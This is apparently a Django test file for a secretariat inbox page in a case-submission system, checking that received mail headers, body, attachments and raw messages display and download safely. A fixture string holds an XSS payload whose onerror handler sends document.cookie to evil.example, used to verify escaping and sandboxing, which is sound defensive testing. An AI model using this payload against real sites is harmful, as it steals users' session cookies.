"""One received message taken apart for the secretariat (/manage/<slug>/inbox/<pk>/):
its headers, its body as plain text, its attachments to download, the
pipeline's outcome, and the raw message itself."""

import pytest

from casebook.intake.enums import MessageStatus
from tests.factories import CallFactory, SectionFactory, UserFactory
from tests.factories.files import png_bytes
from tests.submissions.secretariat import open_page, secretariat_of

from .mails import DOCX, Attachment, build_message, docx_bytes
from .triage import stored_message

pytestmark = pytest.mark.django_db

HOSTILE = ('<p>您好</p><script>alert("x")</script>'
           '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">')


@pytest.fixture
def call():
    call = CallFactory(slug="yrd-test", case_number_prefix="YRD4")
    SectionFactory(call=call, key="background", title="背景与动因")
    return call


@pytest.fixture
def secretariat(call):
    return secretariat_of(call, name="李秘书")


def message_url(message, action: str = "") -> str:
    return f"/manage/{message.call.slug}/inbox/{message.pk}/{action}"


@pytest.fixture
def message(call):
    raw = build_message(
        subject="智慧医保+宝山区医疗保障局", sender=("赵六", "zhao@bs.example.cn"), charset="gb2312",
        body="您好！申报书见附件。\n联系人：赵六 021-66660000",
        attachments=[Attachment("申报书.docx", docx_bytes("智慧医保"), DOCX, filename_charset="gb2312",
                                filename_style="rfc2047"),
                     Attachment("现场 照片.png", png_bytes(), "image/png")])
    return stored_message(raw, call=call, reason="申报单位“宝山区医疗保障局”不在本活动的地区范围内",
                          outcome={"status": "quarantined", "title": "智慧医保",
                                   "unit": "宝山区医疗保障局", "sections": {"background": 320}})


def test_the_message_page_shows_headers_body_attachments_and_outcome(client, secretariat, message):
    page = open_page(client, secretariat, message_url(message))

    assert '<h1 class="mail-page__subject">智慧医保+宝山区医疗保障局</h1>' in page
    assert '赵六 <span class="mono">zhao@bs.example.cn</span>' in page
    assert '<dd class="mono">ioh@sjtu.edu.cn</dd>' in page
    assert "案例名称：智慧医保；单位：宝山区医疗保障局" in page
    assert "2023年9月28日 10:15（北京时间）" in page
    assert '<pre class="mail-body">您好！申报书见附件。\n联系人：赵六 021-66660000</pre>' in page
    # GBK-encoded Chinese filenames, sizes, the type sniffed from the bytes, the kind guessed.
    assert "附件（2）" in page
    assert "<div>申报书.docx" in page and "<div>现场 照片.png" in page
    assert "<div>PNG 图片<span class=\"table__note\">图片</span></div>" in page
    assert f'href="{message_url(message, "attachments/1/")}" download' in page
    assert f'href="{message_url(message, "raw/")}" download' in page
    # The outcome, in words and in full.
    assert "<dt>申报书字数</dt><dd>背景与动因 320</dd>" in page
    assert "&quot;unit&quot;: &quot;宝山区医疗保障局&quot;" in page
    assert "申报单位“宝山区医疗保障局”不在本活动的地区范围内" not in page.split("<main")[0]


def test_an_html_body_is_shown_as_escaped_text(client, call, secretariat):
    raw = build_message(subject="<script>alert(1)</script>+某单位", body=HOSTILE)
    message = stored_message(raw, call=call)

    page = open_page(client, secretariat, message_url(message))

    body = page[page.index('<pre class="mail-body">'):page.index("</pre>")]
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in body
    assert "<script>" not in body and "<img" not in body
    assert "<h1 class=\"mail-page__subject\">&lt;script&gt;alert(1)&lt;/script&gt;+某单位</h1>" in page
    assert "<script>alert" not in page


def test_an_html_only_message_shows_its_text_not_its_markup(client, call, secretariat):
    raw = build_message(subject="网页邮件+某单位", html=HOSTILE + "<p>第二段</p>")
    message = stored_message(raw, call=call)

    page = open_page(client, secretariat, message_url(message))

    body = page[page.index('<pre class="mail-body">'):page.index("</pre>")]
    assert "您好" in body and "第二段" in body
    assert "<script" not in body and "<img" not in body and "onerror" not in body


def test_an_attachment_downloads_under_its_own_name(client, secretariat, message):
    client.force_login(secretariat)

    response = client.get(message_url(message, "attachments/1/"))

    assert response.content == docx_bytes("智慧医保")
    assert response["Content-Disposition"] == \
        "attachment; filename*=utf-8''%E7%94%B3%E6%8A%A5%E4%B9%A6.docx"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert client.get(message_url(message, "attachments/3/")).status_code == 404


def test_an_html_attachment_downloads_as_plain_bytes_in_a_sandbox(client, call, secretariat):
    raw = build_message(subject="附件+某单位", attachments=[
        Attachment("说明.html", HOSTILE.encode(), "text/html")])
    message = stored_message(raw, call=call)
    client.force_login(secretariat)

    response = client.get(message_url(message, "attachments/1/"))

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["Content-Disposition"].startswith("attachment;")


def test_the_raw_message_downloads_byte_for_byte(client, secretariat, message):
    client.force_login(secretariat)

    response = client.get(message_url(message, "raw/"))

    with message.raw.open("rb") as stored:
        assert b"".join(response.streaming_content) == stored.read()
    assert response["Content-Type"] == "message/rfc822"
    assert response["Content-Disposition"] == f'attachment; filename="message-{message.pk}.eml"'


def test_only_the_secretariat_downloads_the_raw_message(client, call, message):
    for outsider in (UserFactory(), secretariat_of(CallFactory())):
        client.force_login(outsider)

        assert client.get(message_url(message, "raw/")).status_code == 404
        assert client.get(message_url(message, "attachments/1/")).status_code == 404


def test_a_settled_message_shows_its_result_instead_of_the_actions(client, call, secretariat):
    message = stored_message(call=call, status=MessageStatus.DUPLICATE,
                             reason="与已收到的邮件相同")

    page = open_page(client, secretariat, message_url(message))

    assert "<dt>说明</dt><dd>与已收到的邮件相同</dd>" in page
    assert "登记为案例" not in page and "退回这封来信" not in page


def test_a_superuser_reads_and_downloads_mail_of_no_call(client):
    raw = build_message(subject="来历不明的邮件", body="正文")
    message = stored_message(raw, call=None)
    admin = UserFactory(is_superuser=True, is_staff=True)

    page = open_page(client, admin, f"/manage/inbox/unassigned/{message.pk}/")
    response = client.get(f"/manage/inbox/unassigned/{message.pk}/raw/")

    assert "<p class=\"page-head__kicker\">未归属任何评选活动</p>" in page
    assert f'href="/manage/inbox/unassigned/{message.pk}/raw/" download' in page
    assert b"".join(response.streaming_content) == raw
